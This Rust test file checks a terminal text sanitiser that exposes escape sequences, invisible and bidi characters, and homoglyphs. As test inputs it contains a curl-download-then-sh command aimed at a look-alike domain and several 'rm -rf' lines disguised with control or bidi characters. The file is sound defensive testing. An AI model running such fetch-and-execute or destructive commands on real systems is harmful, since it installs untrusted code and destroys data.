//! Tests of `ui::text`: whatever comes in, what is drawn is harmless, measured as a terminal measures it, and whole.

use proptest::prelude::*;
use std::num::NonZero;
use std::time::{Duration, Instant};
use wakeful::ui::text::{
    Align, Line, Origin, Strength, Text, Why, Wrap, cut, cut_line, cut_middle, fit, glyphs, neutral,
    one_line, one_line_marked, pad, width, wrap_text,
};

const ALL: [Strength; 3] = [Strength::Prose, Strength::Own, Strength::Exact];
const WRAPS: [Wrap; 2] = [Wrap::Words, Wrap::Cells];

/// What is known to go wrong somewhere.
const ODD: &[&str] = &[
    "\u{1b}[31m",
    "\u{1b}]0;t\u{7}",
    "\u{1b}",
    "\u{9b}2J",
    "\u{7}",
    "\r",
    "\r\n",
    "\n",
    "\t",
    " ",
    "  ",
    "\0",
    "\u{202e}",
    "\u{2066}",
    "\u{200f}",
    "\u{200b}",
    "\u{feff}",
    "\u{ad}",
    "\u{200c}",
    "\u{200d}",
    "\u{e0041}",
    "\u{fe0e}",
    "\u{fe0f}",
    "\u{fe00}",
    "\u{e0100}",
    "\u{301}",
    "\u{338}",
    "\u{20e3}",
    "\u{3099}",
    "\u{ff9e}",
    "\u{e000}",
    "\u{378}",
    "\u{10ffff}",
    "\u{fffd}",
    "\u{a0}",
    "\u{3000}",
    "\u{2003}",
    "\u{2028}",
    "\u{115f}",
    "👩\u{200d}💻",
    "👍\u{1f3fd}",
    "\u{1f3fd}",
    "❤\u{fe0f}",
    "⌚\u{fe0e}",
    "1\u{fe0f}\u{20e3}",
    "🇩🇪",
    "🇩",
    "☺",
    "🦀",
    "你",
    "好",
    "，",
    "（",
    "カ",
    "ｶ",
    "한",
    "\u{1112}\u{1161}\u{11ab}",
    "\u{1161}",
    "ا",
    "ل",
    "ب",
    "\u{64b}",
    "א",
    "क",
    "\u{94d}",
    "ष",
    "\u{93e}",
    "ก",
    "\u{e33}",
    "ក",
    "\u{17d2}",
    "\u{17d8}",
    "\u{600}",
    "\u{16d63}",
    "\u{16d67}",
    "ⵏ",
    "\u{2d7f}",
    "ꓹ",
    "ꓼ",
    "a",
    "b",
    "Z",
    "0",
    "é",
    "а",
    "б",
    "о",
    "ο",
    "λ",
    "ａ",
    "／",
    "–",
    "‐",
    "𝐚",
    "-",
    ".",
];

fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => prop::sample::select(ODD).prop_map(str::to_owned),
        2 => "[ -~]{1,6}",
        1 => any::<char>().prop_map(String::from),
        1 => "\\PC{1,4}",
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

/// Columns that a terminal uses for a line, by its cursor.
fn columns(line: &str) -> usize {
    on(&mut terminal(4_000), line)
}

fn terminal(columns: u16) -> vt100::Parser {
    vt100::Parser::new(NonZero::new(2).unwrap(), NonZero::new(columns).unwrap(), 0)
}

fn on(terminal: &mut vt100::Parser, line: &str) -> usize {
    terminal.process(b"\r");
    terminal.process(line.as_bytes());
    assert_eq!(terminal.screen().cursor_position().0, 0, "{line:?}");
    usize::from(terminal.screen().cursor_position().1)
}

/// What the terminal library reserves for it.
fn reserved(line: &Line<'_>) -> usize {
    let plain = ratatui::style::Style::default();
    let area = ratatui::layout::Rect::new(0, 0, 4_000, 1);
    usize::from(ratatui::buffer::Buffer::empty(area).set_line(0, 0, &line.spans(plain, plain), 4_000).0)
}

fn harmless(c: char) -> bool {
    let bidi =
        matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{206f}');
    !(c.is_control()
        || bidi
        || matches!(c, '\u{200b}' | '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}'))
}

fn without_spaces(text: &str) -> String {
    text.chars().filter(|c| *c != ' ').collect()
}

fn joined(lines: &[Line<'_>]) -> String {
    lines.iter().map(Line::shown).collect()
}

fn checked(text: &Text<'_>, strength: Strength) -> Result<(), TestCaseError> {
    for line in &text.lines {
        let shown = line.shown();
        prop_assert!(shown.chars().all(harmless), "{shown:?}");
        prop_assert!(line.pieces.iter().all(|piece| !piece.text.is_empty()));
        prop_assert_eq!(line.width(), columns(&shown), "{:?}", shown);
        prop_assert_eq!(line.width(), reserved(line), "{:?}", shown);
    }
    let once = text.shown();
    // In prose a last line end opens no line of its own.
    let source = if strength == Strength::Prose { format!("{once}\n") } else { once.clone() };
    let again = neutral(&source, strength);
    prop_assert_eq!(again.flagged(), 0, "{:?}", once);
    prop_assert_eq!(again.shown(), once);
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn neutral_text_is_harmless_certain_and_stays_as_it_is(source in text()) {
        for strength in ALL {
            checked(&neutral(&source, strength), strength)?;
        }
        prop_assert!(!one_line(&source, Strength::Prose).shown().contains('\n'));
    }

    #[test]
    fn wrapped_lines_fit_and_hold_everything(source in text(), cells in 0_usize..300, narrow in 0_usize..12) {
        for (strength, how) in ALL.into_iter().flat_map(|s| WRAPS.map(|w| (s, w))) {
            let whole = neutral(&source, strength);
            for cells in [cells, narrow] {
                for line in &whole.lines {
                    let rows = wakeful::ui::text::wrap(line, cells, how);
                    prop_assert!(!rows.is_empty());
                    for row in &rows {
                        prop_assert!(row.width() <= cells, "{:?} at {}", row.shown(), cells);
                    }
                    // On lines of one cell a wide glyph is its code.
                    if cells > 1 && how == Wrap::Cells {
                        prop_assert_eq!(joined(&rows), line.shown());
                    }
                    if cells > 1 {
                        prop_assert_eq!(without_spaces(&joined(&rows)), without_spaces(&line.shown()));
                    }
                }
            }
        }
    }

    #[test]
    fn cut_text_fits(source in text(), cells in 0_usize..40) {
        let line = one_line(&source, Strength::Prose);
        let shown = line.shown();
        let fits = width(&shown) <= cells;
        for done in [cut(&shown, cells, "…"), cut_middle(&shown, cells, "…"), cut(&shown, cells, ""), cut(&shown, cells, "...")] {
            prop_assert_eq!(width(&done), if fits { width(&shown) } else { cells }, "{:?} at {}", shown, cells);
            prop_assert!(!fits || done == shown);
        }
        prop_assert_eq!(cut_line(&line, cells, "…").shown(), cut(&shown, cells, "…").into_owned());
        prop_assert_eq!(width(&fit(&shown, cells, Align::Right, "…")), cells);
        prop_assert_eq!(width(&pad(&shown, cells, Align::Center)), cells.max(width(&shown)));
    }

    #[test]
    fn raw_text_is_measured_without_a_panic(source in any::<String>(), cells in 0_usize..40) {
        prop_assert!(width(&cut(&source, cells, "…")) <= cells);
        prop_assert!(width(&cut_middle(&source, cells, "…")) <= cells);
    }
}

/// Each character by itself, after a letter, and doubled: the whole standard.
#[test]
fn every_character_is_as_wide_as_counted() {
    let all: Vec<char> = ('\0'..='\u{323ff}').chain('\u{e0000}'..='\u{e01ff}').collect();
    let mut terminal = terminal(200);
    for chunk in all.chunks(300) {
        let source: String = chunk.iter().flat_map(|c| [*c, ' ', 'a', *c, *c, ' ']).collect();
        for strength in ALL {
            for line in neutral(&source, strength).lines {
                for word in line.shown().split(' ') {
                    assert_eq!(width(word), on(&mut terminal, word), "{word:?}");
                }
            }
        }
    }
}

fn hidden(source: &str) -> Vec<(char, Why)> {
    neutral(source, Strength::Exact).hidden().into_iter().map(|hidden| (hidden.ch, hidden.why)).collect()
}

fn alike(origin: Origin, like: char) -> Why {
    Why::LookAlike { origin, like: Some(like) }
}

#[test]
fn an_approval_shows_what_is_not_what_it_looks_like() {
    let command = "curl -sSf https://get.ex\u{430}mple.com/p.sh\u{200b} -o /tmp/p.sh &&\nsh /tmp/p.sh --yes";
    let text = neutral(command, Strength::Exact);
    assert_eq!(
        text.shown(),
        "curl -sSf https://get.ex\\u{430}mple.com/p.sh\\u{200b} -o /tmp/p.sh &&\nsh /tmp/p.sh --yes"
    );
    assert_eq!(text.flagged(), 2);
    assert_eq!(hidden(command), [('\u{430}', alike(Origin::Cyrillic, 'a')), ('\u{200b}', Why::Invisible)]);
    assert_eq!(text.hidden()[0].code(), "\\u{430}");
    // Only the code is flagged, not the text around it.
    let flagged: Vec<_> =
        text.lines[0].pieces.iter().filter(|p| p.hidden.is_some()).map(|p| &*p.text).collect();
    assert_eq!(flagged, ["\\u{430}", "\\u{200b}"]);
}

#[test]
fn what_deceives_is_flagged_in_exact_text() {
    let cases: &[(&str, char, Why)] = &[
        ("rm \u{202e}txt.exe", '\u{202e}', Why::Bidi),
        ("a\u{e0041}b", '\u{e0041}', Why::Tag),
        ("a\u{fe0f}b", '\u{fe0f}', Why::Selector),
        ("a\u{e001}b", '\u{e001}', Why::Private),
        ("a\u{378}b", '\u{378}', Why::Unassigned),
        (" \u{301}b", '\u{301}', Why::Mark),
        ("e\u{301}b", '\u{301}', Why::Composed),
        ("rm\u{a0}-rf", '\u{a0}', Why::Space),
        ("a\u{2028}b", '\u{2028}', Why::Separator),
        ("a\u{7}b", '\u{7}', Why::Control),
        ("safe\rrm -rf", '\r', Why::Control),
        ("\u{1b}[2Jb", '\u{1b}', Why::Escape),
        ("l\u{ff53} -a", '\u{ff53}', alike(Origin::FullWidth, 's')),
        ("g\u{3bf}ogle", '\u{3bf}', alike(Origin::Greek, 'o')),
        ("p\u{436}q", '\u{436}', Why::LookAlike { origin: Origin::Cyrillic, like: None }),
        ("\u{440}\u{430}\u{443}.com", '\u{440}', alike(Origin::Cyrillic, 'p')),
        ("\u{1d42b}m x", '\u{1d42b}', alike(Origin::Styled, 'r')),
        ("rm \u{2013}rf", '\u{2013}', alike(Origin::Sign, '-')),
        ("dry\u{2010}run", '\u{2010}', alike(Origin::Sign, '-')),
        ("\u{9b}2J\u{430}²", '\u{9b}', Why::Escape),
        ("a\u{2215}etc", '\u{2215}', alike(Origin::Sign, '/')),
    ];
    for (source, ch, why) in cases {
        assert_eq!(hidden(source).first(), Some(&(*ch, *why)), "{source:?}");
        assert!(neutral(source, Strength::Exact).flagged() > 0, "{source:?}");
    }
}

#[test]
fn honest_text_is_not_flagged() {
    for source in [
        "保持行的顺序：审计会比较文件（逐字节），用cargo bench。",
        "Привет, мир: запуск",
        "naïve café Übergröße",
        "the range 10–20 — and so on… “quoted”, it’s",
        "Δt = λx, α = 0.1, 5 µs, m², №",
        "日本語カタカナ ひらがな 한국어",
        "ไทย हिन्दी क्षत्रिय",
        "✓ ▸ ● │ └── file",
        "🦀 🇩🇪",
    ] {
        assert_eq!(hidden(source), [], "{source}");
        assert_eq!(neutral(source, Strength::Prose).shown(), source);
    }
}

#[test]
fn prose_reads_well() {
    let cases = [
        ("a\tb\n你\tb\n", "a       b\n你      b"),
        ("one\r\ntwo\r\n\r\n", "one\ntwo\n"),
        ("10%\r20%\rdone\n", "10%\\u{d}\n20%\\u{d}\ndone"),
        ("10\u{a0}km ex\u{430}mple", "10 km ex\u{430}mple"),
        ("❤\u{fe0f} 1\u{fe0f}\u{20e3} 👩🏽\u{200d}💻 👍🏽", "❤ 1\u{20e3} 👩💻 👍"),
        ("\u{1b}[31mred\u{1b}[0m", "\\u{1b}[31mred\\u{1b}[0m"),
        ("می\u{200c}خواهم", "می\u{200c}خواهم"),
        ("", ""),
        ("\n", ""),
    ];
    for (source, shown) in cases {
        assert_eq!(neutral(source, Strength::Prose).shown(), shown, "{source:?}");
    }
    assert_eq!(neutral("a\n", Strength::Exact).lines.len(), 2);
    assert_eq!(neutral("a\r\nb", Strength::Exact).shown(), "a\\u{d}\nb");
    assert_eq!(neutral("a\r\nb", Strength::Exact).flagged(), 0);
    assert!(neutral("مرحبا gpt-5", Strength::Prose).right_to_left);
    assert!(!neutral("hello", Strength::Prose).right_to_left);
}

/// `echo a` and `rm -rf /` on two lines are two commands, and must not look like one.
#[test]
fn a_line_end_is_seen_where_exact_text_stands_on_one_line() {
    let text = "echo a\nrm -rf /";
    assert_eq!(one_line(text, Strength::Prose).shown(), "echo a rm -rf /");
    for strength in [Strength::Own, Strength::Exact] {
        assert_eq!(one_line(text, strength).shown(), "echo a \\u{a} rm -rf /");
    }
    let line = one_line_marked(text, "⏎");
    assert_eq!(line.shown(), "echo a ⏎ rm -rf /");
    let marks: Vec<&str> = line.pieces.iter().filter(|p| p.hidden.is_some()).map(|p| &*p.text).collect();
    assert_eq!(marks, ["⏎"], "it is no sign of the command's own");
    assert_eq!(one_line_marked("one", "⏎").shown(), "one");
}

/// What the person writes is shown as they meant it; what hides or deceives is a code there as well.
#[test]
fn own_text_keeps_its_emoji_and_its_marks_and_hides_nothing() {
    let shown = |text: &str| neutral(text, Strength::Own).shown();
    assert_eq!(shown("👩🏽\u{200d}💻 👍🏽 ❤\u{fe0f} e\u{301}"), "👩💻 👍 ❤ e\u{301}");
    for (text, code) in [
        ("rm\u{200d} -rf", "\\u{200d}"),
        ("می\u{200c}خواهم", "\\u{200c}"),
        ("a\u{1f3fd}", "\\u{1f3fd}"),
        ("a\u{fe0f}", "\\u{fe0f}"),
        ("ex\u{430}mple", "\\u{430}"),
        ("1\u{fe0f}\u{20e3}\u{430}", "\\u{430}"),
        ("rm\u{a0}-rf", "\\u{a0}"),
        ("e\u{301}\u{301}\u{301}\u{301}\u{301}", "\\u{301}"),
    ] {
        assert!(shown(text).contains(code), "{text:?}: {}", shown(text));
    }
    // Each glyph knows its place in the text; what is not drawn belongs to the one before it.
    let places: Vec<_> =
        glyphs("a👩\u{200d}💻\u{200b}e\u{301}").into_iter().map(|g| (g.at, g.shown)).collect();
    let wanted = [(0, "a"), (1, "👩"), (8, "💻"), (12, "\\u{200b}"), (15, "e\u{301}")];
    assert_eq!(places, wanted.map(|(at, shown)| (at, shown.to_owned())));
}

/// Bytes a second are what counts; the bounds leave room for a busy machine and a build without optimisation.
#[test]
fn a_megabyte_is_no_matter() {
    for part in
        ["plain ascii, one word after another ", "one line and its end\n", "你好，世界", "你好，世界\n"]
    {
        let took = read_and_wrapped(part, 1_000_000);
        assert!(took < Duration::from_secs(8), "{part:?} took {took:?}");
    }
}

/// Work that grew with the square of the length would take minutes here.
#[test]
fn no_text_is_made_to_be_slow() {
    let accents = "e\u{301}\u{301}\u{301}\u{301}\u{301}";
    for part in [
        "क\u{94d}",
        "\u{1b}[",
        "\u{1b}]",
        "🇩",
        accents,
        "а",
        "👩\u{200d}",
        "\u{1100}",
        "\u{301}",
        "\t",
        "-–",
        "–",
    ] {
        let took = read_and_wrapped(part, 200_000);
        assert!(took < Duration::from_secs(8), "{part:?} took {took:?}");
    }
}

/// Time to read and wrap a text of repeated parts, in both strengths.
fn read_and_wrapped(part: &str, bytes: usize) -> Duration {
    let source = part.repeat(bytes / part.len());
    let start = Instant::now();
    for (strength, how) in [(Strength::Prose, Wrap::Words), (Strength::Exact, Wrap::Cells)] {
        let one = Instant::now();
        let rows = wrap_text(&neutral(&source, strength), 80, how).len();
        assert!(rows > 1 || part == "\t");
        println!("{part:?} {strength:?} {bytes} bytes: {:?}", one.elapsed());
    }
    start.elapsed()
}
